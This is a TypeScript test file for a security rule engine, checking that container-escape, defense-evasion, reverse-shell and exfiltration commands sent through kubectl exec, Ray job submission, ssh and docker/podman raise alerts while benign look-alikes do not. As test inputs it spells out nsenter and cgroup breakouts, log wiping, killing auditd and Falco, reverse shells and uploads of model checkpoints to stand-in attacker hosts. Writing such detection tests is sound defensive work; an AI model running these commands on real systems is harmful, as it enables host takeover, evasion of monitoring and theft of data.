/**
 * Container escapes and defense evasion through kubectl exec, through the shipped rule set and the
 * real engine: the node reached from a pod (nsenter into PID 1's namespaces, chroot into the
 * node's root, a node disk mounted, the runtime socket, a kernel module, a kernel hook written:
 * MLS-RAY-021), and the recorders silenced (logging, security and telemetry agents stopped,
 * auditing turned off, logs wiped: MLS-POISON-006). The neighbouring everyday commands (a help
 * page, a hook read, a tmpfs mounted, an agent looked for, a job's own log written) raise neither.
 * And commands run elsewhere, read as the commands they are (exec-wrappers.ts): a Ray job's
 * entrypoint, kubectl exec / run / debug's command, ssh's remote command line, the command of a
 * container the pod's runtime starts.
 */
import { describe, expect, it } from 'vitest';
import { execRuleIds, SA } from './exec-events.test-support.js';

const sh = (line: string): string[] => ['sh', '-c', line];

describe('MLS-RAY-021: exec breaks out of the container onto the node', () => {
  it('alerts on nsenter, chroot into the node, node disks, runtime sockets, kernel modules and hooks, for a person and a service account', () => {
    for (const line of [
      'nsenter -t 1 -m -u -i -n -p sh',
      'nsenter --target=1 --mount --uts --ipc --net --pid -- bash',
      'nsenter -a -t1 bash',
      'nsenter --mount=/proc/1/ns/mnt -- cat /etc/shadow',
      'mount /dev/nvme0n1p1 /mnt/x',
      'chroot /host /bin/bash',
      'chroot /proc/1/root sh',
      'curl --unix-socket /var/run/docker.sock http://localhost/containers/json',
      'docker -H unix:///run/containerd/containerd.sock ps',
      'echo \'|/tmp/x\' > /proc/sys/kernel/core_pattern',
      'mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && echo 1 > /tmp/cg/x/notify_on_release && echo /cmd > /tmp/cg/release_agent',
      'echo /tmp/x | tee /sys/fs/cgroup/memory/release_agent',
      'insmod /tmp/rootkit.ko',
      'docker run --rm --privileged -v /:/host alpine chroot /host sh',
      'docker run -it --pid=host alpine sh',
      'podman run --volume=/:/host alpine sh',
      'nerdctl run --mount type=bind,source=/,target=/host alpine sh',
    ]) {
      expect(execRuleIds(sh(line)), line).toContain('MLS-RAY-021');
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-RAY-021');
    }
  });

  it('leaves help pages, hooks read, mounts listed, a tmpfs mounted', () => {
    for (const line of [
      'nsenter --help',
      'chroot --help',
      'cat /proc/sys/kernel/core_pattern',
      'mount | grep ckpt',
      'mount -t tmpfs tmpfs /tmp/x',
      'echo hello > /tmp/core_pattern.txt',
      'findmnt /mnt/ckpt',
      'docker ps',
      'docker run --rm -v /workspace:/w python:3.11 python /w/test.py',
      'docker build -t x .',
      'ls /var/run/secrets/kubernetes.io/serviceaccount/namespace',
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-RAY-021');
  });
});

describe('MLS-POISON-006: exec stops a recorder, turns auditing off or wipes logs', () => {
  it('alerts on agents killed or stopped, auditing off, and logs removed, emptied or linked to /dev/null', () => {
    for (const line of [
      'kill -9 $(pgrep fluent-bit)',
      'pkill -f falco',
      'killall -9 filebeat promtail',
      'systemctl stop auditd',
      'service auditd stop',
      'auditctl -e 0',
      'rm -rf /var/log/*',
      'truncate -s 0 /var/log/audit/audit.log',
      ': > /var/log/syslog',
      '> /var/log/auth.log',
      'cat /dev/null > /var/log/messages',
      'ln -sf /dev/null /var/log/audit/audit.log',
      'kill $(pidof dcgm-exporter)',
      'find /var/log -type f -delete',
      "find /var/log -name '*.log' -exec rm -f {} +",
      'journalctl --vacuum-time=1s',
    ]) expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-006');
  });

  it('leaves agents looked for, other processes stopped, logs read or written by a job', () => {
    for (const line of [
      'pgrep falco',
      'pgrep -a fluent-bit && ps aux | grep fluent',
      'pkill -f tensorboard',
      'kill -USR1 1',
      'python train.py > /var/log/train.log 2>&1',
      'tail -f /var/log/train.log',
      'ls /var/log',
      'pkill -f vector_store.py',
      'cat /var/log/syslog | grep -i error',
      'systemctl status auditd',
      'du -sh /var/log/*',
      'auditctl -l',
      "find /var/log -name '*.gz' -mtime +7",
      'journalctl --disk-usage',
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-006');
  });
});

describe('commands run elsewhere are read: a Ray job entrypoint, kubectl exec / run / debug, ssh (lateral movement)', () => {
  it('alerts on a miner, a reverse shell or a script piped into a shell submitted to a Ray cluster from a pod', () => {
    const ray = 'ray job submit --address http://10.0.3.7:8265 --no-wait --';
    expect(execRuleIds(sh(`${ray} python -c "import os; os.system('curl -s http://203.0.113.5/x.sh | sh')"`))).toContain('MLS-RAY-012');
    expect(execRuleIds(sh(`${ray} xmrig -o pool.minexmr.com:443 -u x`))).toContain('MLS-RAY-011');
    expect(execRuleIds(sh(`${ray} bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'`))).toContain('MLS-RAY-015');
  });

  it('reads the command kubectl runs in another pod and the one ssh runs on another host', () => {
    expect(execRuleIds(sh("kubectl -n ml-train exec -it trainer-0 -c pytorch -- bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"))).toContain('MLS-RAY-015');
    expect(execRuleIds(sh("kubectl exec -n ml-train trainer-0 -- sh -c 'curl -T /mnt/ckpt/model.pt https://evil.example/up'"))).toContain('MLS-EXFIL-014');
    expect(execRuleIds(sh('kubectl debug node/gpu-node-1 -it --image=busybox -- chroot /host sh'))).toContain('MLS-RAY-021');
    expect(execRuleIds(sh("kubectl create cronjob upd --image=alpine --schedule='*/5 * * * *' -- sh -c 'curl -s http://203.0.113.5/x.sh | sh'"))).toContain('MLS-RAY-012');
    expect(execRuleIds(sh("kubectl -n ml-train create job x --image=alpine -- sh -c 'tar cf - /mnt/ckpt | nc 203.0.113.5 4444'"))).toContain('MLS-EXFIL-014');
    expect(execRuleIds(sh("ssh -i /tmp/k u@10.0.0.5 'curl -s http://203.0.113.5/x.sh | sh'"))).toContain('MLS-RAY-012');
    for (const line of ['kubectl exec trainer-0 -- nvidia-smi', 'ssh u@10.0.0.5 uptime', "kubectl create job smoke --image=python:3.11 -- python -c 'print(1)'"]) {
      expect(execRuleIds(sh(line)).filter((id) => id.startsWith('MLS-')), line).toEqual([]);
    }
  });

  it('reads the command a container started by the pod\'s runtime runs (docker / podman / nerdctl run, an entrypoint given, an image whose entrypoint is its tool)', () => {
    expect(execRuleIds(sh("docker run --rm -v /mnt/ckpt:/d alpine sh -c 'nc evil.example 4444 < /d/model.pt'"))).toContain('MLS-EXFIL-014');
    expect(execRuleIds(sh("podman run --rm -dit -v /mnt/ckpt:/d alpine sh -c 'curl -T /d/model.pt https://evil.example/up'"))).toContain('MLS-EXFIL-014');
    expect(execRuleIds(sh("docker run --rm --entrypoint sh alpine -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"))).toContain('MLS-RAY-015');
    expect(execRuleIds(sh("docker container run --rm alpine sh -c 'curl -s http://203.0.113.5/x.sh | sh'"))).toContain('MLS-RAY-012');
    expect(execRuleIds(sh('docker run -it --rm --network host -v /mnt/ckpt:/d curlimages/curl -T /d/model.pt https://evil.example/up'))).toContain('MLS-EXFIL-014');
    expect(execRuleIds(sh('docker run --rm -v /mnt/ckpt:/d amazon/aws-cli s3 cp /d/model.pt s3://attacker-loot/'))).toContain('MLS-EXFIL-014');
    for (const line of [
      'docker run --rm -v /workspace:/w python:3.11 python /w/test.py',
      'docker run --rm nvidia/cuda:12.2.0-base-ubuntu22.04 nvidia-smi',
      'docker run -d --name redis -p 6379:6379 redis:7',
      'docker run --rm curlimages/curl -s https://pypi.org/simple/',
      'docker run --rm -v /data:/data rclone/rclone copy s3:datasets/x /data/x',
    ]) expect(execRuleIds(sh(line)).filter((id) => id.startsWith('MLS-')), line).toEqual([]);
  });

  it('leaves a training job submitted and the job CLI\'s other commands', () => {
    for (const line of ['ray job submit --address http://ray-head.ml.svc:8265 --working-dir . -- python train.py --epochs 3', 'ray job logs -f raysubmit_123', 'ray status']) {
      expect(execRuleIds(sh(line)).filter((id) => id.startsWith('MLS-')), line).toEqual([]);
    }
  });
});

